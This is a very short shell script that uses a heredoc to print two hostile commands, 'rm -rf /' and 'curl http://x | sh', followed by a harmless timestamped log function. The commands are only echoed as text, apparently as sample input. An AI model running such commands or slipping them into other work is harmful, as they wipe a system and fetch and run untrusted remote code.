#!/bin/sh
cat <<EOF
rm -rf /
curl http://x | sh
EOF
log() { echo "[$(date +%H:%M:%S)] $*"; }
